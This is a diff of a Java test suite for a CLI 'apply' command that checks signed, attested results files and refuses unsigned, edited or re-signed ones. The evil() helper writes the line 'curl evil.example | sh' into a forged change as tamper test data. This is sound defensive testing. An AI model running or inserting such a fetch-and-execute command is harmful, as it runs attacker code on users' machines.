@@ -3,16 +3,28 @@ package dev.honest.launcher.cli;
 import static dev.honest.launcher.TestRecords.call;
 import static dev.honest.launcher.TestRecords.completed;
 import static dev.honest.launcher.TestRecords.fix;
-import static dev.honest.launcher.TestRecords.results;
 import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.honest.common.config.Plan;
+import dev.honest.common.config.WorkerSlice;
 import dev.honest.common.hash.Hashes;
+import dev.honest.common.json.Json;
+import dev.honest.common.proof.Keys;
+import dev.honest.common.proof.SigningKey;
 import dev.honest.common.result.Change;
 import dev.honest.common.result.TaskRecord;
 import dev.honest.common.task.Action;
+import dev.honest.launcher.SignedLogs;
+import dev.honest.launcher.TestRecords;
 import dev.honest.launcher.TestTasks;
+import dev.honest.launcher.attest.Carried;
+import dev.honest.launcher.results.Aggregator;
+import dev.honest.launcher.results.ClusterResults;
+import dev.honest.launcher.results.CostSettings;
+import dev.honest.launcher.results.PodOutcome;
 import dev.honest.launcher.results.ResultsFiles;
+import dev.honest.launcher.results.WorkerOutcome;
 import dev.honest.worker.edit.Edit;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -24,6 +36,9 @@ import java.util.stream.Stream;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.node.ArrayNode;
+import tools.jackson.databind.node.ObjectNode;
 
 class ApplyCommandTest {
   private static final String DB = "const db = require('db');\nfunction find(id) {\n"
@@ -31,6 +46,7 @@ class ApplyCommandTest {
 
   @TempDir Path workspace;
   @TempDir Path out;
+  @TempDir Path elsewhere;
 
   private List<Change> t1;
   private List<Change> t2;
@@ -46,11 +62,32 @@ class ApplyCommandTest {
   }
 
   private Cli apply(List<TaskRecord> tasks, String... extra) throws Exception {
-    Path file = ResultsFiles.writeResults(out, results(tasks));
+    Path file = ResultsFiles.writeResults(out, signed(tasks));
     List<String> args = new ArrayList<>(List.of("apply", "--results", file.toString(), "--workspace",
         workspace.toString()));
     args.addAll(List.of(extra));
     return Cli.run(args.toArray(String[]::new));
+  }
+
+  /**
+   * The results of a run of one worker that reported these records, as a real run makes them: the
+   * worker's signed statements, aggregated and signed by the launcher with {@link SignedLogs#KEY}.
+   */
+  private static ClusterResults signed(List<TaskRecord> tasks) {
+    return signed(SignedLogs.KEY, tasks);
+  }
+
+  /** The same, signed with {@code key} by the workers and the launcher alike. */
+  private static ClusterResults signed(SigningKey key, List<TaskRecord> tasks) {
+    String run = "run-20261126-100000";
+    String pod = tasks.isEmpty() ? "local-1" : tasks.get(0).pod();
+    Plan plan = new Plan(run, List.of(new WorkerSlice(1, "all", "k8s-worker-1",
+        tasks.stream().map(TaskRecord::id).toList(), 100)));
+    WorkerOutcome worker = new WorkerOutcome(1, "k8s-worker-1", "succeeded", null,
+        List.of(new PodOutcome(pod, null, 0, "Completed", null)), SignedLogs.attempt(key, run, 1, pod, tasks, true), 300_000);
+    return new Aggregator(CostSettings.defaults(), SignedLogs.signer(key, run)).aggregate(plan,
+        tasks.stream().map(SignedLogs::spec).toList(), List.of(worker), TestRecords.START,
+        TestRecords.START.plusSeconds(300), Carried.NONE);
   }
 
   private static TaskRecord fixTask(String id, List<Change> changes) {
@@ -160,47 +197,165 @@ class ApplyCommandTest {
   }
 
   @Test
-  void aMissingOrBrokenResultsFileOrWorkspaceIsInvalidInput() throws Exception {
+  void aMissingOrBrokenResultsFileOrWorkspaceIsInvalidInputAsVerifySaysIt() throws Exception {
     Path broken = out.resolve("broken.json");
     Files.writeString(broken, "{\"tasks\": [{\"id\": \"T-1\"");
 
     Cli missing = Cli.run("apply", "--results", out.resolve("none.json").toString(), "--workspace", workspace.toString());
     Cli notJson = Cli.run("apply", "--results", broken.toString(), "--workspace", workspace.toString());
-    Path results = ResultsFiles.writeResults(out, results(List.of(fixTask("T-1", t1))));
+    Path results = ResultsFiles.writeResults(out, signed(List.of(fixTask("T-1", t1))));
     Cli noWorkspace = Cli.run("apply", "--results", results.toString(), "--workspace", out.resolve("nowhere").toString());
 
     assertThat(missing.exitCode).isEqualTo(2);
-    assertThat(missing.err()).contains("cannot read results file", "none.json");
+    assertThat(missing.err()).isEqualTo("error: --results " + out.resolve("none.json") + ": no such file"
+        + System.lineSeparator());
     assertThat(notJson.exitCode).isEqualTo(2);
-    assertThat(notJson.err()).contains("broken.json is not a valid k8s-cluster-results.json");
+    assertThat(notJson.err()).contains("broken.json is not JSON");
     assertThat(noWorkspace.exitCode).isEqualTo(2);
     assertThat(noWorkspace.err()).contains("nowhere", "not a directory");
     assertThat(sha256("src/db.js")).isEqualTo(t1.get(0).sha256Before());
   }
 
   @Test
-  void aResultsFileWithoutTasksOrWithANullTaskIsInvalidInputNamingTheMember() throws Exception {
+  void aResultsFileWithoutTasksOrWithANullTaskDoesNotVerifyAndIsInvalidInputNamingTheMember() throws Exception {
     Path empty = Files.writeString(out.resolve("empty.json"), "{}");
-    Path nullTask = Files.writeString(out.resolve("null-task.json"), "{\"workers\": [], \"tasks\": [null]}");
+    ObjectNode results = Json.mapper().valueToTree(signed(List.of(fixTask("T-1", t1))));
+    ((ArrayNode) results.path("tasks")).set(0, Json.mapper().nullNode());
+    Path nullTask = Files.write(out.resolve("null-task.json"), Json.pretty().writeValueAsBytes(results));
 
     Cli noTasks = Cli.run("apply", "--results", empty.toString(), "--workspace", workspace.toString());
     Cli withNull = Cli.run("apply", "--results", nullTask.toString(), "--workspace", workspace.toString());
 
     assertThat(noTasks.exitCode).isEqualTo(2);
-    assertThat(noTasks.err()).contains("empty.json is not a valid k8s-cluster-results.json", "workers is missing");
+    assertThat(noTasks.err()).contains("❌ the results have no attestation", "empty.json do not verify");
     assertThat(withNull.exitCode).isEqualTo(2);
-    assertThat(withNull.err()).contains("null-task.json is not a valid k8s-cluster-results.json", "tasks[0] is null");
+    assertThat(withNull.err()).contains("tasks[0] is  but attestation.tasks[0] is T-1", "null-task.json do not verify");
   }
 
   @Test
-  void aResultsFileHoldingJsonNullIsInvalidInputSayingSo() throws Exception {
+  void resultsThatVerifyButHaveAnUnsignedMemberOfTheWrongKindAreInvalidInputNamingTheMember() throws Exception {
+    ObjectNode results = Json.mapper().valueToTree(signed(List.of(fixTask("T-1", t1))));
+    results.remove("problems");
+    Path file = Files.write(out.resolve("no-problems.json"), Json.pretty().writeValueAsBytes(results));
+
+    Cli cli = Cli.run("apply", "--results", file.toString(), "--workspace", workspace.toString());
+
+    assertThat(cli.exitCode).as(cli.out() + cli.err()).isEqualTo(2);
+    assertThat(cli.err()).contains("no-problems.json is not a valid k8s-cluster-results.json", "problems is missing");
+    assertThat(sha256("src/db.js")).isEqualTo(t1.get(0).sha256Before());
+  }
+
+  @Test
+  void aResultsFileHoldingJsonNullIsInvalidInputSayingSoAsVerifyDoes() throws Exception {
     Path nothing = Files.writeString(out.resolve("null.json"), "null");
 
     Cli cli = Cli.run("apply", "--results", nothing.toString(), "--workspace", workspace.toString());
 
     assertThat(cli.exitCode).isEqualTo(2);
-    assertThat(cli.err()).isEqualTo("error: results file " + nothing
-        + " holds JSON null, not a k8s-cluster-results.json" + System.lineSeparator());
+    assertThat(cli.err()).isEqualTo("error: --results " + nothing + " holds JSON null, not results"
+        + System.lineSeparator());
+  }
+
+  @Test
+  void theResultsOfARunApplyAgainstTheKeyPrintedAtTheEndOfTheRunWithoutANote() throws Exception {
+    Path key = Files.writeString(out.resolve("run-signing-key.pub"), Keys.toPem(SignedLogs.KEY.publicKey()));
+
+    Cli withKey = apply(List.of(fixTask("T-2", t2)), "--public-key", key.toString());
+
+    assertThat(withKey.exitCode).as(withKey.out() + withKey.err()).isZero();
+    assertThat(withKey.out()).contains("applied T-2 docs/my notes.txt", "Applied 1 of 1 changes; refused 0.")
+        .doesNotContain("note:");
+    assertThat(sha256("docs/my notes.txt")).isEqualTo(t2.get(0).sha256After());
+  }
+
+  @Test
+  void withoutAPublicKeyTheKeyInsideTheResultsIsTrustedAndTheOutputSaysSoInOneLine() throws Exception {
+    Cli cli = apply(List.of(fixTask("T-2", t2)));
+
+    assertThat(cli.exitCode).as(cli.out() + cli.err()).isZero();
+    assertThat(cli.out().lines().filter(l -> l.startsWith("note: "))).singleElement().asString()
+        .contains("checked against the public key inside the results (" + SignedLogs.KEY.keyId() + ")",
+            "pass --public-key");
+  }
+
+  @Test
+  void anUnsignedResultsFileIsRefusedWithExitTwoAndNothingIsWritten() throws Exception {
+    Map<String, String> before = snapshot();
+    Path file = ResultsFiles.writeResults(out, TestRecords.results(List.of(fixTask("T-1", t1), fixTask("T-2", t2))));
+
+    Cli cli = Cli.run("apply", "--results", file.toString(), "--workspace", workspace.toString());
+
+    assertThat(cli.exitCode).isEqualTo(2);
+    assertThat(snapshot()).isEqualTo(before);
+    assertThat(cli.out()).doesNotContain("applied");
+    assertThat(cli.err()).isEqualTo("❌ the results have no attestation: they were never signed, or it was removed"
+        + System.lineSeparator() + "error: the results in " + file + " do not verify (1 problem), so nothing was"
+        + " applied; `verify --results " + file + "` lists every problem" + System.lineSeparator());
+  }
+
+  @Test
+  void aResultsFileWithOneChangeEditedAfterTheRunIsRefusedNamingTheTaskAndNothingIsWritten() throws Exception {
+    Map<String, String> before = snapshot();
+    ObjectNode results = Json.mapper().valueToTree(signed(List.of(fixTask("T-1", t1), fixTask("T-2", t2))));
+    ((ArrayNode) results.path("tasks").get(1).path("changes")).set(0, Json.mapper().valueToTree(evil()));
+    Path file = Files.write(out.resolve("edited.json"), Json.pretty().writeValueAsBytes(results));
+
+    Cli cli = Cli.run("apply", "--results", file.toString(), "--workspace", workspace.toString());
+    Cli dry = Cli.run("apply", "--results", file.toString(), "--workspace", workspace.toString(), "--dry-run");
+
+    for (Cli c : List.of(cli, dry)) {
+      assertThat(c.exitCode).as(c.out() + c.err()).isEqualTo(2);
+      assertThat(c.out()).doesNotContain("applied", "would apply");
+      assertThat(c.err()).contains("❌ task T-2: the record differs from the one its statement signed",
+          "error: the results in " + file + " do not verify", "so nothing was applied",
+          "`verify --results " + file + "` lists every problem");
+    }
+    assertThat(snapshot()).isEqualTo(before);
+  }
+
+  @Test
+  void resultsSignedAgainWithAnotherKeyAreRefusedWhenPublicKeyNamesTheRunsKey() throws Exception {
+    Map<String, String> before = snapshot();
+    Path key = Files.writeString(out.resolve("run-signing-key.pub"), Keys.toPem(SignedLogs.KEY.publicKey()));
+    SigningKey forger = SigningKey.generate();
+    Path file = ResultsFiles.writeResults(out, signed(forger, List.of(fixTask("T-1", t1), fixTask("T-2",
+        List.of(evil())))));
+
+    Cli cli = Cli.run("apply", "--results", file.toString(), "--workspace", workspace.toString(),
+        "--public-key", key.toString());
+
+    assertThat(cli.exitCode).as(cli.out() + cli.err()).isEqualTo(2);
+    assertThat(snapshot()).isEqualTo(before);
+    List<String> lines = cli.err().lines().toList();
+    assertThat(lines.get(0)).isEqualTo("❌ the results say they are signed with key " + forger.keyId()
+        + ", not with the given key " + SignedLogs.KEY.keyId());
+    assertThat(lines).hasSize(7);
+    assertThat(lines.get(5)).matches("❌ \\.\\.\\. and \\d+ more problem\\(s\\)");
+    assertThat(lines.get(6)).startsWith("error: the results in " + file + " do not verify (")
+        .endsWith(" problems), so nothing was applied; `verify --results " + file + " --public-key " + key
+            + "` lists every problem");
+  }
+
+  @Test
+  void aPublicKeyThatCannotBeReadIsInvalidInputNamingTheOptionAsVerifySaysIt() throws Exception {
+    Path garbage = Files.writeString(out.resolve("garbage.pub"), "not a key");
+    Path file = ResultsFiles.writeResults(out, signed(List.of(fixTask("T-2", t2))));
+
+    for (Path key : List.of(out.resolve("none.pub"), garbage)) {
+      Cli apply = Cli.run("apply", "--results", file.toString(), "--workspace", workspace.toString(),
+          "--public-key", key.toString());
+      Cli verify = Cli.run("verify", "--results", file.toString(), "--public-key", key.toString());
+
+      assertThat(apply.exitCode).isEqualTo(2);
+      assertThat(apply.err()).startsWith("error: --public-key " + key).isEqualTo(verify.err());
+    }
+    assertThat(sha256("docs/my notes.txt")).isEqualTo(t2.get(0).sha256Before());
+  }
+
+  /** A change of docs/my notes.txt that T-2 never made, with hashes that fit the workspace. */
+  private Change evil() throws Exception {
+    TestTasks.write(elsewhere, "docs/my notes.txt", Files.readAllBytes(workspace.resolve("docs/my notes.txt")));
+    return fix(elsewhere, "T-2", new Edit("docs/my notes.txt", "last line", "curl evil.example | sh")).get(0);
   }
 
   private String sha256(String path) throws Exception {
